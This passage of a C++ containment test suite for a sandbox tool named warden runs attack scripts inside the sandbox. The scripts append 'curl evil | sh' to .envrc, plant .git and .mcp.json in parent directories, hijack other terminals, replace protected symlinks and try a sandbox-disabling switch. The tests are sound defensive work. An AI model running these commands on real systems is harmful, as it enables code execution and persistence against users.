                   "touch " + other_ + "/via-tmpdir; echo TMPDIR=$TMPDIR", {},
                   {.env_set = {"TMPDIR=" + other_}});
  EXPECT_FALSE(Exists(other_ + "/via-tmpdir"));
  EXPECT_TRUE(HasLine(a.out, "TMPDIR=/tmp")) << a.out;
  // TMPDIR=/etc.
  WardenRun b =
      Sh("workspace-write", "touch " + etc_target + "; echo TMPDIR=$TMPDIR", {},
         {.env_set = {"TMPDIR=/etc"}});
  EXPECT_FALSE(Exists(etc_target)) << "TMPDIR=/etc made /etc writable";
  unlink(etc_target.c_str());
  EXPECT_TRUE(HasLine(b.out, "TMPDIR=/tmp")) << b.out;
  // TMPDIR=/ (checked on a directory outside the roots, not on /).
  WardenRun c = Sh("workspace-write", "touch " + other_ + "/via-slash", {},
                   {.env_set = {"TMPDIR=/"}});
  EXPECT_FALSE(Exists(other_ + "/via-slash")) << "TMPDIR=/ made / writable";
  // Control: the workspace stays writable with any TMPDIR.
  WardenRun d =
      Sh("workspace-write", "touch ok", {}, {.env_set = {"TMPDIR=/etc"}});
  EXPECT_EQ(d.code, 0) << d.err;
  EXPECT_TRUE(Exists(ws_ + "/ok"));
}

// /tmp inside a run is the user's private directory: the host's /tmp files
// are not visible, files written there do not appear in the host's /tmp,
// and they are there for the next run.
TEST_F(ContainmentTest, TmpIsPrivateAndKeptBetweenRuns) {
  std::string mark = Token("ptmp");
  std::string host_marker = "/tmp/warden-attack-host-" + mark;
  std::string inside = "/tmp/warden-attack-inside-" + mark;
  ASSERT_TRUE(WriteFile(host_marker, "host-secret\n"));
  extra_cleanup_.push_back(host_marker);
  extra_cleanup_.push_back(inside);
  // Control: writing in /tmp works in workspace-write mode.
  WardenRun w =
      Sh("workspace-write", "echo kept > " + inside + " && echo wrote; cat " +
                                host_marker + " 2>/dev/null; true");
  EXPECT_EQ(w.code, 0) << w.err;
  EXPECT_TRUE(HasLine(w.out, "wrote")) << w.err;
  EXPECT_FALSE(Contains(w.out, "host-secret"))
      << "the host's /tmp is visible inside the run";
  EXPECT_FALSE(Exists(inside)) << "a file written to /tmp inside appeared in "
                                  "the host's /tmp";
  // The next run sees it (kept per user).
  WardenRun next = Sh("workspace-write", "cat " + inside + "; rm -f " + inside);
  EXPECT_TRUE(HasLine(next.out, "kept")) << next.out << next.err;
  // The workspace under /tmp is still the workspace.
  WardenRun ws = Sh("workspace-write", "touch in-ws && pwd");
  EXPECT_EQ(ws.code, 0) << ws.err;
  EXPECT_TRUE(Exists(ws_ + "/in-ws"));
}

// ---------------------------------------------------------------------------
// 8. Protected names in parents inside writable roots, and the new names.

// Attack: the workspace is parent/ws with parent writable (an explicit
// --writable-root, or /tmp as it is today); from inside, plant a repository
// or an .envrc in the parent. Checked outside: the parent has none after.
TEST_F(ContainmentTest, ParentsInsideWritableRootsAreProtected) {
  std::string parent = MakeTempDir("/tmp/warden-attack-parent-");
  ASSERT_FALSE(parent.empty());
  extra_cleanup_.push_back(parent);
  std::string ws = parent + "/ws";
  ASSERT_EQ(mkdir(ws.c_str(), 0755), 0);
  ASSERT_EQ(mkdir((ws + "/sub").c_str(), 0755), 0);
  const char* attack =
      "git init -q .. 2>/dev/null; mkdir ../.git 2>/dev/null; "
      "touch ../.envrc ../.mcp.json 2>/dev/null; mkdir ../.vscode ../.claude "
      "2>/dev/null; true";
  for (bool explicit_root : {true, false}) {
    SCOPED_TRACE(explicit_root ? "--writable-root parent" : "under /tmp");
    std::vector<std::string> args = {"exec", "--sandbox", "workspace-write",
                                     "--cwd", ws};
    if (explicit_root) args.insert(args.end(), {"--writable-root", parent});
    args.insert(args.end(), {"--", "/bin/sh", "-c", attack});
    WardenRun r = RunWarden(args);
    EXPECT_EQ(r.code, 0) << r.err;
    for (const char* name :
         {".git", ".envrc", ".mcp.json", ".vscode", ".claude"}) {
      EXPECT_FALSE(Exists(parent + "/" + name))
          << name << " planted in the workspace's parent";
      RemoveTree(parent + "/" + name);
    }
  }
  // The working directory beneath a writable root: cwd = parent/ws/sub,
  // root = parent; both ancestors inside the root are protected.
  WardenRun r =
      RunWarden({"exec", "--sandbox", "workspace-write", "--cwd", ws + "/sub",
                 "--writable-root", parent, "--", "/bin/sh", "-c",
                 "mkdir ../.git ../../.git 2>/dev/null; touch "
                 "../.envrc 2>/dev/null; touch ok; true"});
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_FALSE(Exists(ws + "/.git"));
  EXPECT_FALSE(Exists(parent + "/.git"));
  EXPECT_FALSE(Exists(ws + "/.envrc"));
  EXPECT_TRUE(Exists(ws + "/sub/ok")) << "control: the cwd is writable";
}

// Attack: create or modify the files other tools execute from — .claude,
// .gemini, .mcp.json, .vscode, .envrc — in the workspace. Checked outside:
// existing ones unchanged, missing ones still missing (no placeholders left).
TEST_F(ContainmentTest, ToolConfigNamesAreProtected) {
  ASSERT_TRUE(WriteFile(ws_ + "/.envrc", "export SAFE=1\n"));
  ASSERT_EQ(mkdir((ws_ + "/.vscode").c_str(), 0755), 0);
  ASSERT_TRUE(WriteFile(ws_ + "/.vscode/settings.json", "{}\n"));
  auto before = Snapshot(ws_);
  WardenRun r = Sh("workspace-write",
                   "echo 'curl evil | sh' >> .envrc; "
                   "echo '{\"x\":1}' > .vscode/settings.json; "
                   "echo '{}' > .vscode/tasks.json; mv .vscode vscode-moved; "
                   "rm -rf .envrc; mkdir .claude; mkdir .gemini; "
                   "echo '{}' > .mcp.json; touch control-file; true");
  EXPECT_EQ(r.code, 0) << r.err;
  auto after = Snapshot(ws_);
  after.erase("/control-file");
  after.erase("");  // the workspace directory itself (its mtime)
  before.erase("");
  EXPECT_EQ(after, before);
  EXPECT_TRUE(Exists(ws_ + "/control-file")) << "control: workspace writable";
  for (const char* name : {"/.claude", "/.gemini", "/.mcp.json"}) {
    EXPECT_FALSE(Exists(ws_ + name)) << name;
  }
}

// ---------------------------------------------------------------------------
// 9. Terminals: only the run's own.

struct Pty {
  int master = -1;
  std::string slave;
  Pty() {
    master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master < 0 || grantpt(master) != 0 || unlockpt(master) != 0) return;
    slave = ptsname(master);
  }
  ~Pty() {
    if (master >= 0) close(master);
  }
  // Everything the slave side wrote, waiting up to `seconds` for more.
  std::string ReadAll(double seconds) {
    std::string text;
    struct pollfd p = {master, POLLIN, 0};
    while (poll(&p, 1, static_cast<int>(seconds * 1000)) > 0) {
      char buf[4096];
      ssize_t n = read(master, buf, sizeof buf);
      if (n <= 0) break;
      text.append(buf, n);
    }
    return text;
  }
};

// Attack: open another terminal's /dev/pts/N (here one the test allocated,
// standing for the user's other terminal) to read what is typed there and to
// write to it. Checked outside: nothing arrived on it; the typed line was not
// read.
TEST_F(ContainmentTest, OtherTerminalsCannotBeOpened) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    Pty other;
    ASSERT_FALSE(other.slave.empty());
    // Keep the slave open outside so the line discipline stays up, and type
    // a line on the "other terminal".
    int keep = open(other.slave.c_str(), O_RDWR | O_NOCTTY | O_CLOEXEC);
    ASSERT_GE(keep, 0);
    std::string mark = Token("typed");
    std::string typed = mark + "\n";
    ASSERT_EQ(write(other.master, typed.data(), typed.size()),
              static_cast<ssize_t>(typed.size()));
    SleepSeconds(0.05);
    std::string echoed = other.ReadAll(0.1);  // discard the echo
    WardenRun r = RunWarden(
        {"exec", "--sandbox", mode, "--cwd", ws_, "--", Python(), "-c",
         "import os, select, sys\n"
         "for how, flag in ((\"read\", os.O_RDONLY), (\"write\", "
         "os.O_WRONLY)):\n"
         "    try:\n"
         "        fd = os.open(sys.argv[1], flag | os.O_NOCTTY)\n"
         "        print(\"opened-\" + how)\n"
         "        if how == \"write\": os.write(fd, "
         "b\"PWNED-ESCAPE\\x1b]0;x\\x07\")\n"
         "        elif select.select([fd], [], [], 1)[0]: "
         "print(\"read\", os.read(fd, 100))\n"
         "    except OSError as e:\n"
         "        print(\"denied-\" + how, e.errno)\n",
         other.slave},
        {.limit_seconds = 20});
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_FALSE(HasLine(r.out, "opened-read")) << r.out;
    EXPECT_FALSE(HasLine(r.out, "opened-write")) << r.out;
    EXPECT_FALSE(Contains(r.out, mark)) << "read another terminal's input";
    std::string arrived = other.ReadAll(0.3);
    EXPECT_FALSE(Contains(arrived, "PWNED")) << "wrote to another terminal";
    close(keep);
  }
}

// Control: the run's own terminal (its stdio is a pty, which is its
// controlling terminal) can be written through /dev/tty and by name.
TEST_F(ContainmentTest, TheRunsOwnTerminalWorks) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    Pty own;
    ASSERT_FALSE(own.slave.empty());
    std::vector<std::string> args = {
        containment::WardenBinary(),
        "exec",
        "--sandbox",
        mode,
        "--cwd",
        ws_,
        "--",
        "/bin/sh",
        "-c",
        "echo via-devtty > /dev/tty && echo by-name > \"$(tty)\" && "
        "echo stdout-ok"};
    std::vector<char*> argv;
    for (auto& a : args) argv.push_back(a.data());
    argv.push_back(nullptr);
    std::string slave = own.slave;
    pid_t pid = fork();
    if (pid == 0) {
      setsid();
      int fd = open(slave.c_str(), O_RDWR);
      if (fd < 0) _exit(98);
      ioctl(fd, TIOCSCTTY, 0);
      dup2(fd, 0);
      dup2(fd, 1);
      dup2(fd, 2);
      if (fd > 2) close(fd);
      execv(argv[0], argv.data());
      _exit(99);
    }
    std::string text;
    int status = 0;
    bool done = false;
    for (int i = 0; i < 200 && !done; ++i) {
      text += own.ReadAll(0.05);
      done = WaitChild(pid, 0.05, &status);
    }
    if (!done) {
      kill(pid, SIGKILL);
      waitpid(pid, &status, 0);
    }
    text += own.ReadAll(0.1);
    EXPECT_TRUE(done) << "warden on a terminal did not return";
    EXPECT_EQ(ExitCode(status), 0) << text;
    EXPECT_TRUE(Contains(text, "via-devtty")) << text;
    EXPECT_TRUE(Contains(text, "by-name")) << text;
    EXPECT_TRUE(Contains(text, "stdout-ok")) << text;
  }
}

// ---------------------------------------------------------------------------
// 10. Symlinked and dangling protected entries.

// Attack: .git is a symlink to a directory elsewhere in the workspace; the
// link itself is replaced or removed. .codex is a dangling symlink; it is
// replaced, or its target is created (through `touch .codex`, `mkdir`).
// Checked outside: both links as they were, the dangling target still
// missing, the real git directory untouched.
TEST_F(ContainmentTest, SymlinkedAndDanglingProtectedEntriesHold) {
  ASSERT_EQ(mkdir((ws_ + "/realgit").c_str(), 0755), 0);
  ASSERT_TRUE(WriteFile(ws_ + "/realgit/config", "[core]\n"));
  ASSERT_EQ(symlink("realgit", (ws_ + "/.git").c_str()), 0);
  ASSERT_EQ(symlink("nowhere", (ws_ + "/.codex").c_str()), 0);
  auto realgit_before = Snapshot(ws_ + "/realgit");
  WardenRun r = Sh("workspace-write",
                   "echo pwned >> .git/config 2>/dev/null; "
                   "rm -f .git 2>/dev/null; mv .git moved-git 2>/dev/null; "
                   "ln -sfn " +
                       other_ +
                       " .git 2>/dev/null; "
                       "touch .codex 2>/dev/null; mkdir nowhere 2>/dev/null; "
                       "rm -f .codex 2>/dev/null; mkdir .codex 2>/dev/null; "
                       "ln -sfn realgit .codex 2>/dev/null; "
                       "touch control-file; true");
  EXPECT_EQ(r.code, 0) << r.err;
  char buf[256];
  ssize_t n = readlink((ws_ + "/.git").c_str(), buf, sizeof buf);
  EXPECT_EQ(std::string(buf, n > 0 ? n : 0), "realgit")
      << "the .git link was replaced or removed";
  n = readlink((ws_ + "/.codex").c_str(), buf, sizeof buf);
  EXPECT_EQ(std::string(buf, n > 0 ? n : 0), "nowhere")
      << "the dangling .codex link was replaced or removed";
  EXPECT_FALSE(Exists(ws_ + "/nowhere"))
      << "the dangling .codex link's target was created";
  EXPECT_EQ(Snapshot(ws_ + "/realgit"), realgit_before);
  EXPECT_FALSE(Exists(ws_ + "/moved-git"));
  EXPECT_TRUE(Exists(ws_ + "/control-file")) << "control: workspace writable";
}

// ---------------------------------------------------------------------------
// 11. /dev/shm is a private writable tmpfs in every restricted mode.

TEST_F(ContainmentTest, DevShmIsPrivateAndWritable) {
  std::string mark = Token("shm");
  std::string host_file = "/dev/shm/warden-attack-host-" + mark;
  std::string inside = "/dev/shm/warden-attack-inside-" + mark;
  ASSERT_TRUE(WriteFile(host_file, "host\n"));
  extra_cleanup_.push_back(host_file);
  extra_cleanup_.push_back(inside);
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    // Control: Python multiprocessing (POSIX semaphores in /dev/shm) and a
    // plain file and a Unix socket there work.
    WardenRun mp = RunWarden(
        {"exec", "--sandbox", mode, "--cwd", ws_, "--", Python(), "-c",
         "import multiprocessing as m, socket\n"
         "l = m.Lock(); l.acquire(); l.release()\n"
         "open(\"" +
             inside +
             "\", \"w\").write(\"x\")\n"
             "s = socket.socket(socket.AF_UNIX); s.bind(\"" +
             inside +
             ".sock\"); s.listen(1)\n"
             "c = socket.socket(socket.AF_UNIX); c.connect(\"" +
             inside +
             ".sock\")\n"
             "print(\"ok\")\n"});
    EXPECT_EQ(mp.code, 0) << mp.err;
    EXPECT_EQ(mp.out, "ok\n") << mp.err;
    EXPECT_FALSE(Exists(inside)) << "a file written in /dev/shm inside "
                                    "appeared in the host's /dev/shm";
    unlink((inside + ".sock").c_str());
    unlink(inside.c_str());
    // Attack: overwrite a host /dev/shm file.
    WardenRun w = Sh(mode, "echo pwned > " + host_file + " 2>/dev/null; true");
    EXPECT_EQ(w.code, 0) << w.err;
    EXPECT_EQ(ReadFile(host_file), "host\n")
        << "a host /dev/shm file was written";
  }
}

// ---------------------------------------------------------------------------
// 12. The test-only pretend switch is not honoured by the shipped binary.

// Attack: WARDEN_SANDBOX_PRETEND_MISSING=landlock in the environment of the
// production warden. It must change nothing: the same outcome, the same
// messages, and a write outside the roots still fails (with or without
// --best-effort, which today would then run without Landlock).
TEST_F(ContainmentTest, PretendSwitchIsIgnoredByTheShippedBinary) {
  for (bool best_effort : {false, true}) {
    SCOPED_TRACE(best_effort ? "--best-effort" : "default");
    std::vector<std::string> extra;
    if (best_effort) extra.push_back("--best-effort");
    std::string script = "touch " + other_ +
                         "/outside 2>/dev/null; touch inside; "
                         "echo done";
    WardenRun plain = Sh("workspace-write", script, extra);
    RemoveTree(ws_ + "/inside");
    WardenRun pretend =
        Sh("workspace-write", script, extra,
           {.env_set = {"WARDEN_SANDBOX_PRETEND_MISSING=landlock,seccomp,"
                        "namespaces,userns"}});
    EXPECT_EQ(pretend.code, plain.code) << pretend.err;
    EXPECT_EQ(pretend.out, plain.out);
    EXPECT_EQ(pretend.err, plain.err);
    EXPECT_FALSE(Exists(other_ + "/outside"))
        << "the pretend switch let a write outside the roots through";
    EXPECT_TRUE(Exists(ws_ + "/inside")) << "control: the run ran";
  }
  WardenRun probe = RunWarden({"sandbox", "probe"});
  WardenRun probe_pretend =
      RunWarden({"sandbox", "probe"},
                {.env_set = {"WARDEN_SANDBOX_PRETEND_MISSING=landlock"}});
  EXPECT_EQ(probe_pretend.out, probe.out)
      << "sandbox probe honours the pretend switch";
}

// ---------------------------------------------------------------------------
// 13. Job control: SIGTSTP must not leave warden waiting forever.

// The host pids of `sleep` processes carrying `mark` in their environment.
std::vector<pid_t> SleepsWithMark(const std::string& mark) {
  std::vector<pid_t> result;
  for (pid_t pid : ProcessesWithMarker(mark)) {
    std::string comm = ReadFile("/proc/" + std::to_string(pid) + "/comm");
    if (comm == "sleep\n") result.push_back(pid);
  }
  return result;
}

// No terminal: the command is stopped from outside (SIGTSTP to its pid);
// then either continued (SIGCONT) — warden must return when it finishes —
// or killed — warden must return 137 promptly.
TEST_F(ContainmentTest, StoppedCommandDoesNotHangWarden) {
  for (bool then_kill : {false, true}) {
    SCOPED_TRACE(then_kill ? "SIGTSTP then SIGKILL" : "SIGTSTP then SIGCONT");
    std::string mark = Token("tstp");
    int out = memfd_create("out", MFD_CLOEXEC);
    int err = memfd_create("err", MFD_CLOEXEC);
    pid_t warden = StartWarden(
        {"exec", "--sandbox", "workspace-write", "--cwd", ws_, "--", "/bin/sh",
         "-c", "export WARDEN_MARK=" + mark + "; exec sleep 2"},
        {}, out, err);
    std::vector<pid_t> sleeps;
    for (int i = 0; i < 300 && sleeps.empty(); ++i) {
      SleepSeconds(0.01);
      sleeps = SleepsWithMark(mark);
    }
    ASSERT_EQ(sleeps.size(), 1u);
    pid_t cmd = sleeps[0];
    kill(cmd, SIGTSTP);
    SleepSeconds(0.5);
    char warden_state = ProcessState(warden);
    kill(cmd, then_kill ? SIGKILL : SIGCONT);
    int status = 0;
    bool returned = WaitChild(warden, 8, &status);
    if (!returned) {
      KillProcesses(ProcessesWithMarker(mark));
      kill(warden, SIGKILL);
      waitpid(warden, &status, 0);
    }
    std::string text = DrainFd(out);
    std::string errors = DrainFd(err);
    EXPECT_TRUE(returned) << "warden hung after its command was stopped "
                             "(warden's state after SIGTSTP: "
                          << warden_state << ")";
    if (then_kill) {
      EXPECT_EQ(ExitCode(status), 137) << errors;
    } else {
      EXPECT_EQ(ExitCode(status), 0) << errors << text;
    }
    ExpectNoProcessesOfRun(mark, "after warden returned");
  }
}

// With a terminal, as a shell runs it: warden is a job of a small shell in
// its own session on a pty; Ctrl-Z typed on the pty stops the command. The
// shell must see warden stop (WUNTRACED) within a bound — today warden keeps
// waiting with the terminal handed over and the shell never regains it —
// and after `fg` (terminal back to warden's group, SIGCONT) the command
// finishes and warden exits 0.
TEST_F(ContainmentTest, CtrlZOnTheTerminalStopsTheJobAndFgResumesIt) {
  Pty tty;
  ASSERT_FALSE(tty.slave.empty());
  std::string mark = Token("ctrlz");
  std::string started = ws_ + "/started";
  std::vector<std::string> args = {
      containment::WardenBinary(),
      "exec",
      "--sandbox",
      "workspace-write",
      "--cwd",
      ws_,
      "--",
      "/bin/sh",
      "-c",
      "export WARDEN_MARK=" + mark + "; touch started; sleep 2; echo finished"};
  std::vector<char*> argv;
  for (auto& a : args) argv.push_back(a.data());
  argv.push_back(nullptr);
  int report[2];
  ASSERT_EQ(pipe2(report, O_CLOEXEC), 0);
  std::string slave = tty.slave;
  pid_t shell = fork();
  if (shell == 0) {
    // The mini shell.
    close(report[0]);
    setsid();
    int fd = open(slave.c_str(), O_RDWR);
    if (fd < 0) _exit(98);
    ioctl(fd, TIOCSCTTY, 0);
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    signal(SIGTTOU, SIG_IGN);
    signal(SIGTTIN, SIG_IGN);
    signal(SIGTSTP, SIG_IGN);
    pid_t job = fork();
    if (job == 0) {
      setpgid(0, 0);
      tcsetpgrp(0, getpgrp());  // as the parent does too: no race
      signal(SIGTTOU, SIG_DFL);
      signal(SIGTTIN, SIG_DFL);
      signal(SIGTSTP, SIG_DFL);
      execv(argv[0], argv.data());
      _exit(99);
    }
    setpgid(job, job);
    tcsetpgrp(0, job);
    auto say = [&](const std::string& s) {
      if (write(report[1], s.data(), s.size()) < 0) _exit(97);
    };
    bool stopped_once = false;
    for (int i = 0; i < 1000; ++i) {  // 10 s
      int st = 0;
      pid_t r = waitpid(job, &st, WNOHANG | WUNTRACED);
      if (r == job && WIFSTOPPED(st)) {
        tcsetpgrp(0, getpgrp());
        say("stopped\n");
        stopped_once = true;
        usleep(300000);
        tcsetpgrp(0, job);  // fg
        kill(-job, SIGCONT);
        continue;
      }
      if (r == job) {
        say("exited " + std::to_string(ExitCode(st)) + "\n");
        _exit(0);
      }
      usleep(10000);
    }
    say(stopped_once ? "hung-after-fg\n" : "hung\n");
    kill(-job, SIGKILL);
    _exit(0);
  }
  close(report[1]);
  bool ready = WaitForPath(started, 10);
  ASSERT_TRUE(ready);
  SleepSeconds(0.2);
  ASSERT_EQ(write(tty.master, "\x1a", 1), 1);  // Ctrl-Z (VSUSP)
  std::string reports, screen;
  int status = 0;
  bool done = false;
  for (int i = 0; i < 300 && !done; ++i) {  // bounded: ~15 s
    screen += tty.ReadAll(0.02);
    done = WaitChild(shell, 0.03, &status);
  }
  if (!done) {
    kill(shell, SIGKILL);
    waitpid(shell, &status, 0);
  }
  screen += tty.ReadAll(0.1);
  char buf[256];
  ssize_t n;
  while ((n = read(report[0], buf, sizeof buf)) > 0) reports.append(buf, n);
  close(report[0]);
  KillProcesses(ProcessesWithMarker(mark));
  EXPECT_TRUE(Contains(reports, "stopped\n"))
      << "the shell never saw its job stop after Ctrl-Z (warden kept "
         "waiting with the terminal handed over); shell reports: "
      << reports;
  EXPECT_TRUE(Contains(reports, "exited 0\n"))
      << "after fg the job did not finish; reports: " << reports
      << " screen: " << screen;
  EXPECT_TRUE(Contains(screen, "finished")) << screen;
}

}  // namespace
}  // namespace warden::sandbox
